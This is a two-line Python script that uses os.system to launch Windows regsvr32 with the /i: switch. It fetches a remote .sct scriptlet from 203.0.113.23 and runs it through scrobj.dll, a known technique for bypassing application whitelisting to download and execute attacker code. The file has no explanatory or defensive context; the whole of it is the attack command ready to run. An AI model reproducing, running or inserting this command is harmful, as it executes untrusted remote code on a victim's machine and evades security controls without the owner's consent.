import os
os.system('regsvr32 /s /n /u /i:http://203.0.113.23/file.sct scrobj.dll')
